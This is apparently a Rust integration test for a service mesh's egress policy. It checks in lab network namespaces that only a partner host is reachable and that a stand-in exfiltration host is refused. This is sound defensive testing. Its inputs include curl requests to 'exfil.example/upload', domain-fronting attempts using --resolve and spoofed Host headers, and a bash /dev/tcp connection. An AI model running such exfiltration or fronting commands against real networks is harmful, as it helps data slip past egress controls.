//! Egress in the lab, in real network namespaces: an "internet" of two
//! pods outside the mesh (a partner API and an exfiltration target, their
//! names served by the lab's own DNS server), and an EgressPolicy that lets
//! the shop reach only the partner. The allowed host works over HTTPS and
//! HTTP; the other is refused naming the rule (403 for HTTP, a reset for
//! TLS); an allowed name sent to the other's address and the other's name
//! sent to the allowed address are both refused; a CIDR rule admits its
//! range only; in dry-run nothing is refused and every would-be denial is
//! counted, and switching back to enforce takes effect within a second.

use std::time::{Duration, Instant};

use mesh_tests::netns::{Lab, LabSpec, Pod, available, meshctl};
use mesh_tests::{metric, wait_for};

const INDEX: u8 = 24;

fn ip(host: u8) -> String {
    format!("10.250.{INDEX}.{host}")
}

fn policy(mode: &str) -> String {
    format!(
        "apiVersion: policy.palisade.dev/v1alpha1
kind: EgressPolicy
metadata: {{name: partner-only, namespace: shop}}
spec:
  mode: {mode}
  default: deny
  allow:
    - hosts: [api.partner.example]
      ports: [80, 443]
    - cidrs: [{}/32]
      ports: [7000]
",
        ip(30)
    )
}

/// `curl ARGS` from `pod` as its app: (exit code, HTTP status, body).
fn curl(lab: &Lab, pod: &str, args: &[&str]) -> (i32, u16, String) {
    let mut argv = vec!["curl", "-s", "-k", "-m", "5", "-w", "\n%{http_code}"];
    argv.extend_from_slice(args);
    let out = lab.exec_as(pod, 1000, &argv);
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let (body, code) = text.rsplit_once('\n').unwrap_or(("", &text));
    (
        out.status.code().unwrap_or(-1),
        code.trim().parse().unwrap_or(0),
        body.to_owned(),
    )
}

/// Sends `ping` over plain TCP to `addr`:7000 and reads the echo.
fn tcp_echo(lab: &Lab, pod: &str, addr: &str) -> String {
    let script =
        format!("exec 3<>/dev/tcp/{addr}/7000 && printf ping >&3 && timeout 3 head -c 4 <&3");
    let out = lab.exec_as(pod, 1000, &["bash", "-c", &script]);
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn egress_count(lab: &Lab, pod: &str, host: &str, decision: &str) -> f64 {
    metric(
        &lab.metrics(pod),
        "mesh_egress_connections_total",
        &[("host", host), ("decision", decision)],
    )
}

#[test]
fn only_the_allowed_host_leaves_the_mesh() {
    if !available("only_the_allowed_host_leaves_the_mesh") {
        return;
    }
    let dns = format!(
        "mesh-dns 0.0.0.0:53 --ttl 30 api.partner.example={} exfil.example={}",
        ip(30),
        ip(31)
    );
    let mut lab = LabSpec::new(INDEX)
        .dns(30)
        .pod(
            Pod::new("partner", "internet", 30)
                .no_sidecar()
                .echo(&[80, 7000])
                .run("mesh-echo 0.0.0.0:443 --tls api.partner.example", 443)
                .command(&dns),
        )
        .pod(
            Pod::new("exfil", "internet", 31)
                .no_sidecar()
                .echo(&[80, 7000])
                .run("mesh-echo 0.0.0.0:443 --tls exfil.example", 443),
        )
        .pod(Pod::new("checkout", "shop", 10))
        .pod(Pod::new("intruder", "shop", 11))
        .file("egress.yaml", &policy("enforce"))
        .up();

    // The allowed host, by its name (the lab's DNS), over HTTPS and HTTP.
    let r = wait_for("the partner over HTTPS", Duration::from_secs(10), || {
        let r = curl(&lab, "checkout", &["https://api.partner.example/pay"]);
        (r.1 == 200).then_some(r)
    });
    assert!(r.2.contains("over TLS for api.partner.example"), "{}", r.2);
    let r = curl(&lab, "checkout", &["http://api.partner.example/status"]);
    assert_eq!(r.1, 200, "{}", r.2);
    assert!(r.2.contains("partner received"), "{}", r.2);

    // The other host: HTTP gets 403 naming the rule; TLS a reset, before
    // anything reached it.
    let r = curl(&lab, "intruder", &["http://exfil.example/upload"]);
    assert_eq!(r.1, 403, "{}", r.2);
    assert!(
        r.2.contains("egress denied: EgressPolicy shop/partner-only"),
        "{}",
        r.2
    );
    let r = curl(&lab, "intruder", &["https://exfil.example/upload"]);
    assert_eq!(r.1, 0, "{r:?}");
    assert!(
        r.0 == 35 || r.0 == 56,
        "curl should see the connection reset (35/56), got {r:?}"
    );

    // Domain fronting, both ways: the allowed name to the other's address,
    // the other's name to the allowed address, and a Host that is not the
    // address's.
    let fronted = format!("api.partner.example:443:{}", ip(31));
    let r = curl(
        &lab,
        "intruder",
        &["--resolve", &fronted, "https://api.partner.example/"],
    );
    assert_eq!(r.1, 0, "allowed SNI to a forbidden address: {r:?}");
    let fronted = format!("exfil.example:443:{}", ip(30));
    let r = curl(
        &lab,
        "intruder",
        &["--resolve", &fronted, "https://exfil.example/"],
    );
    assert_eq!(r.1, 0, "forbidden SNI to the allowed address: {r:?}");
    let url = format!("http://{}/", ip(30));
    let r = curl(&lab, "intruder", &["-H", "Host: exfil.example", &url]);
    assert_eq!(r.1, 403, "{}", r.2);
    let url = format!("http://{}/", ip(31));
    let r = curl(&lab, "intruder", &["-H", "Host: api.partner.example", &url]);
    assert_eq!(r.1, 403, "{}", r.2);
    assert!(r.2.contains("does not resolve to"), "{}", r.2);

    // The CIDR rule: its address on its port only.
    assert_eq!(tcp_echo(&lab, "checkout", &ip(30)), "ping");
    assert_eq!(tcp_echo(&lab, "intruder", &ip(31)), "");

    // Counted by host and decision.
    let m = lab.metrics("intruder");
    assert!(
        metric(
            &m,
            "mesh_egress_connections_total",
            &[
                ("namespace", "shop"),
                ("host", "exfil.example"),
                ("decision", "deny")
            ]
        ) >= 2.0,
        "{m}"
    );
    assert!(egress_count(&lab, "checkout", "api.partner.example", "allow") >= 2.0);

    // Dry-run: nothing refused, every would-be denial counted.
    let before = egress_count(&lab, "intruder", "exfil.example", "dry_run_deny");
    lab.write_config("egress.yaml", &policy("dry-run"));
    let r = wait_for("the dry run in force", Duration::from_secs(5), || {
        let r = curl(&lab, "intruder", &["http://exfil.example/upload"]);
        (r.1 == 200).then_some(r)
    });
    assert!(r.2.contains("exfil received"), "{}", r.2);
    assert_eq!(curl(&lab, "intruder", &["https://exfil.example/"]).1, 200);
    assert!(egress_count(&lab, "intruder", "exfil.example", "dry_run_deny") >= before + 2.0);
    // …and logged: the access log line and the proxy's log name the policy
    // that would have denied it.
    let log = lab.state_dir().join("pods/intruder/proxy.log");
    wait_for("the dry-run denial logged", Duration::from_secs(5), || {
        let text = std::fs::read_to_string(&log).unwrap_or_default();
        text.lines()
            .any(|l| {
                l.contains("\"direction\":\"egress\"")
                    && l.contains("\"decision\":\"dry_run_deny\"")
                    && l.contains("\"dry_run_policy\":\"EgressPolicy shop/partner-only\"")
            })
            .then_some(())
    });

    // Back to enforce: within a second.
    lab.write_config("egress.yaml", &policy("enforce"));
    let switched = Instant::now();
    wait_for("enforce again", Duration::from_secs(5), || {
        (curl(&lab, "intruder", &["http://exfil.example/"]).1 == 403).then_some(())
    });
    let took = switched.elapsed();
    println!("enforce took effect after {took:?}");
    assert!(took < Duration::from_secs(1), "{took:?}");

    // What checkout was seen reaching, as a policy; applied, it allows
    // exactly that: replayed, checkout's destinations work and nothing else
    // leaves.
    let admin = lab.admin("checkout").to_string();
    let out = meshctl(&["egress", "report", "--admin", &admin]);
    let report = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(out.status.success(), "{report}");
    assert!(report.contains("api.partner.example"), "{report}");
    let out = meshctl(&["egress", "suggest", "--admin", &admin]);
    let suggested = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(out.status.success(), "{suggested}");
    println!("{suggested}");
    lab.write_config("egress.yaml", &suggested);
    wait_for(
        "the suggested policy in force",
        Duration::from_secs(5),
        || {
            let r = curl(&lab, "intruder", &["http://exfil.example/"]);
            r.2.contains("EgressPolicy shop/suggested-egress")
                .then_some(())
        },
    );
    assert_eq!(
        curl(&lab, "checkout", &["https://api.partner.example/pay"]).1,
        200
    );
    assert_eq!(
        curl(&lab, "checkout", &["http://api.partner.example/status"]).1,
        200
    );
    assert_eq!(tcp_echo(&lab, "checkout", &ip(30)), "ping");
    assert_eq!(curl(&lab, "checkout", &["https://exfil.example/"]).1, 0);
    assert_eq!(curl(&lab, "checkout", &["http://exfil.example/"]).1, 403);
    assert_eq!(tcp_echo(&lab, "checkout", &ip(31)), "");

    // `lab status` shows egress by host.
    let out = meshctl(&["lab", "status", "--name", &lab.name]);
    let status = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(status.contains("egress outside the mesh"), "{status}");
    assert!(status.contains("intruder: exfil.example:"), "{status}");
    assert!(
        status.contains("checkout: api.partner.example:"),
        "{status}"
    );
    lab.down();
}
